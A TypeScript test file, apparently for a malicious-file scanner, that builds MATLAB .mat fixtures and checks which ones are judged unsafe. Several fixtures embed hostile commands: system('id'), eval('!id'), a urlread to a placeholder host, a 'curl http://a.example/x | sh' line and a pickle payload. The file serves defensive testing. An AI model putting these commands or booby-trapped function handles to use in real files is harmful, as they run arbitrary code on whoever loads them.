import { zlibSync } from 'fflate';
import { PAYLOAD, bytes, proto, run, u32, utf8, zeros } from '../../../../testing';

const HEADER = bytes('MATLAB 5.0 MAT-file'.padEnd(124), 0, 1, 'IM');
const element = (type: number, data: Uint8Array): Uint8Array =>
  bytes(u32(type), u32(data.length), data, zeros((8 - (data.length % 8)) % 8));
const matrix = (kind: number, inner: Uint8Array): Uint8Array =>
  element(14, bytes(element(6, bytes(u32(kind), u32(0))), inner));
const handle = (code: Uint8Array): Uint8Array =>
  matrix(16, bytes(element(1, utf8('function_handle')), element(16, code)));
const packed = (inner: Uint8Array): Uint8Array => {
  const data = zlibSync(inner);
  return bytes(u32(15), u32(data.length), data);
};
const wide = (text: string): Uint8Array => bytes(...[...text].map(letter => bytes(letter, 0)));
const numbers = matrix(6, element(9, zeros(64)));

test.each<[string, Uint8Array]>([
  ['a function', handle(utf8("@()system('id')"))],
  ['a function of wide letters', handle(wide("@(x) eval('!id')"))],
  ['a function, packed', packed(handle(utf8("@(x)x+urlread('http://a.example')")))],
  ['behind others', bytes(numbers, packed(numbers), packed(handle(utf8("@()system('id')"))))],
  ['a command, packed', packed(matrix(4, element(16, utf8('curl http://a.example/x | sh'))))],
  ['a pickle, packed', packed(matrix(9, element(2, proto(2, PAYLOAD))))]
])('a variable of MATLAB with %s', (_name, data) => {
  expect(run(bytes(HEADER, data), {}, 'm.mat').verdict).toBe('unsafe');
});

test('functions that compute, and arrays, say nothing', () => {
  const honest = bytes(
    handle(utf8('@(x)sin(x)+system_matrix(x)')),
    packed(numbers),
    matrix(4, element(16, utf8('run (1)')))
  );
  expect(run(bytes(HEADER, honest, packed(honest)), {}, 'm.mat')).toMatchObject({ verdict: 'clean', findings: [] });
  expect(run(bytes(HEADER, u32(15), u32(100), 1, 2, 3), {}, 'm.mat').findings).toEqual([]);
});
